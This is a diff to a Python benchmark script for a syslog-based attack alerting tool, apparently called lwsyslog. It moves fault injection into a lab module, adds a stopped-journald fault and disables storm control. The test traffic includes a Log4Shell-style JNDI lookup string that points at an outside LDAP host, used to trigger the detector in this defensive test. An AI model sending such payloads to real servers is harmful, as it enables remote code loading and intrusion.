@@ -10,10 +10,10 @@ and off) and fault:
 - ``dir``: for ``--fault-secs`` the messages file is unwritable: a directory stands in its
   place and the program is sent SIGHUP (it reopens its files); then the file is back;
 - ``full``: for ``--fault-secs`` the file system holding the messages file is full (a small
-  tmpfs inside the namespace, filled up, then emptied).
+  tmpfs inside the namespace, filled up, then emptied);
+- ``journald``: for ``--fault-secs`` journald is stopped (SIGSTOP): its socket fills up.
 
-(Root ignores file modes, so ``chmod`` cannot make the file unwritable; the directory holding
-it is a symlink, switched atomically to one where ``messages`` is a directory.)
+(The faults are :class:`lwsyslog.lab.SinkFault`.)
 
 Traffic (``--lines``, default 640, over ``--send-secs`` 20 s; the fault starts 5 s in):
 harmless clients (ordinary page views, a few per client per 10 s) and single-line attackers
@@ -33,16 +33,13 @@ from __future__ import annotations
 
 import argparse
 import contextlib
-import os
 import re
-import signal
 import socket
-import subprocess
 import sys
 import tempfile
 import time
 from collections import Counter
-from collections.abc import Callable, Sequence
+from collections.abc import Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -108,55 +105,6 @@ class Outcome:
         return {(rule, client) for rule, client, _ in keys}
 
 
-class _Fault:
-    """Turns one fault on and off; ``read`` returns the messages file's bytes."""
-
-    def __init__(self, kind: str, journal: lab.JournalNamespace, work: Path) -> None:
-        self.kind = kind
-        self.journal = journal
-        self.dir = work / "msg"
-        self.path = self.dir / "messages"
-        self.pids: Callable[[], list[int]] = list
-        if kind == "full":
-            self.dir.mkdir(parents=True, exist_ok=True)
-            self._ns("mount", "-t", "tmpfs", "-o", "size=4m,mode=0755", "lwsyslog-bench",
-                     str(self.dir))  # fmt: skip
-        else:
-            # msg -> real/ normally, -> bad/ (where "messages" is a directory) during the
-            # fault: both switches are one atomic rename, never a moment without either.
-            (work / "real").mkdir()
-            (work / "bad" / "messages").mkdir(parents=True)
-            self._point(work / "real")
-
-    def _point(self, target: Path) -> None:
-        link = self.dir.with_name("msg.new")
-        link.symlink_to(target)
-        link.replace(self.dir)
-
-    def _ns(self, *argv: str) -> subprocess.CompletedProcess[bytes]:
-        return subprocess.run(self.journal.command(*argv), capture_output=True, check=False)
-
-    def on(self) -> None:
-        if self.kind == "dir":
-            self._point(self.dir.with_name("bad"))
-            for pid in self.pids():
-                with contextlib.suppress(ProcessLookupError):
-                    os.kill(pid, signal.SIGHUP)
-        elif self.kind == "full":
-            self._ns("sh", "-c", f"dd if=/dev/zero of={self.dir}/filler bs=64k 2>/dev/null; true")
-
-    def off(self) -> None:
-        if self.kind == "dir":
-            self._point(self.dir.with_name("real"))
-        elif self.kind == "full":
-            self._ns("rm", "-f", f"{self.dir}/filler")
-
-    def read(self) -> bytes:
-        if self.kind == "full":
-            return self._ns("cat", str(self.path)).stdout
-        return self.path.read_bytes() if self.path.is_file() else b""
-
-
 def _counters(stderr: Path) -> tuple[dict[str, int], int]:
     """The program's stats counters (``received``, ``lines``, ``replays``) summed over its
     restarts (a counter going down means a new program), and the number of restarts."""
@@ -187,30 +135,6 @@ def _notable(stderr: Path, keep: int = 4) -> str:
     return " / ".join(list(seen)[:keep])
 
 
-def _settle(
-    fault: _Fault, journal: lab.JournalNamespace, expected: tuple[int, int] | None, most: float
-) -> float:
-    """Wait until the alert counts (messages file, journald) reach ``expected`` (the control
-    run's) and hold still for 3 s (5 s without ``expected``), at most ``most`` seconds."""
-    start = time.monotonic()
-    last: tuple[int, int] = (-1, -1)
-    still = start
-    while time.monotonic() - start < most:
-        time.sleep(1.0)
-        counts = (
-            fault.read().count(b"\n"),
-            len(journal.entries("SYSLOG_IDENTIFIER=lwsyslog")),
-        )
-        now = time.monotonic()
-        if counts != last:
-            last, still = counts, now
-            continue
-        reached = expected is None or (counts[0] >= expected[0] and counts[1] >= expected[1])
-        if reached and now - still >= (3.0 if expected else 5.0):
-            break
-    return time.monotonic() - start
-
-
 def run_one(
     mode: str,
     fault_kind: str,
@@ -223,9 +147,13 @@ def run_one(
     outcome = Outcome(mode, fault_kind)
     traffic = _traffic(args.lines)
     with lab.JournalNamespace(work / "journal") as journal:
-        fault = _Fault(fault_kind, journal, work)
+        fault = lab.SinkFault(fault_kind, journal, work)
         program = lab.omprog_command(
-            config=lab.write_lab_config(work / "lwsyslog.toml"),
+            # Storm control off: 40 one-line attackers in 20 s would otherwise fold into
+            # summaries, and the comparison is per (rule, client).
+            config=lab.write_lab_config(
+                work / "lwsyslog.toml", "[alerts]\nstorm_max_alerts = 0\n"
+            ),
             state_dir=work / "state",
             messages_file=fault.path,
         )
@@ -241,28 +169,24 @@ def run_one(
                     '"${jndi:ldap://198.51.100.9/a}"'
                 ))  # fmt: skip
                 lab.wait_for(lambda: b"/warm-up" in fault.read(), 60, "the warm-up alert")
-                start = time.monotonic()
-                fault_end = _FAULT_START_SECS + args.fault_secs
-                fault_on = fault_off = False
-                for i, (body, _) in enumerate(traffic):
-                    due = start + i * args.send_secs / len(traffic)
-                    now = time.monotonic()
-                    if due > now:
-                        time.sleep(due - now)
-                    elapsed = time.monotonic() - start
-                    if fault_kind != "control" and not fault_on and elapsed >= _FAULT_START_SECS:
-                        fault.on()
-                        fault_on = True
-                    if fault_on and not fault_off and elapsed >= fault_end:
-                        fault.off()
-                        fault_off = True
-                    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
-                    sock.sendall(lab.syslog_line(body.replace("{stamp}", stamp)))
-                    outcome.sent += 1
-                if fault_on and not fault_off:
-                    time.sleep(max(0.0, start + fault_end - time.monotonic()))
-                    fault.off()
-            outcome.settle = _settle(fault, journal, expected, args.settle_secs)
+                bodies = [body for body, _ in traffic]
+                lab.send_through_fault(
+                    lambda body: sock.sendall(lab.syslog_line(body)),
+                    bodies,
+                    fault,
+                    send_secs=args.send_secs,
+                    fault_start=_FAULT_START_SECS,
+                    fault_secs=args.fault_secs,
+                )
+                outcome.sent = len(bodies)
+            outcome.settle = lab.settle(
+                lambda: (
+                    fault.read().count(b"\n"),
+                    len(journal.entries("SYSLOG_IDENTIFIER=lwsyslog")),
+                ),
+                expected,
+                args.settle_secs,
+            )
             data = fault.read()
             entries = journal.entries("SYSLOG_IDENTIFIER=lwsyslog")
             outcome.raw_counts = (data.count(b"\n"), len(entries))
@@ -370,7 +294,12 @@ def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
     parser.add_argument(
         "--modes", nargs="+", choices=["transactions", "lines"], default=["transactions", "lines"]
     )
-    parser.add_argument("--faults", nargs="+", choices=["dir", "full"], default=["dir", "full"])
+    parser.add_argument(
+        "--faults",
+        nargs="+",
+        choices=["dir", "full", "journald"],
+        default=["dir", "full", "journald"],
+    )
     parser.add_argument("--lines", type=int, default=640, help="lines sent per run (640)")
     parser.add_argument("--send-secs", type=float, default=20.0, help="spread over (20 s)")
     parser.add_argument("--fault-secs", type=float, default=10.0, help="fault length (10 s)")
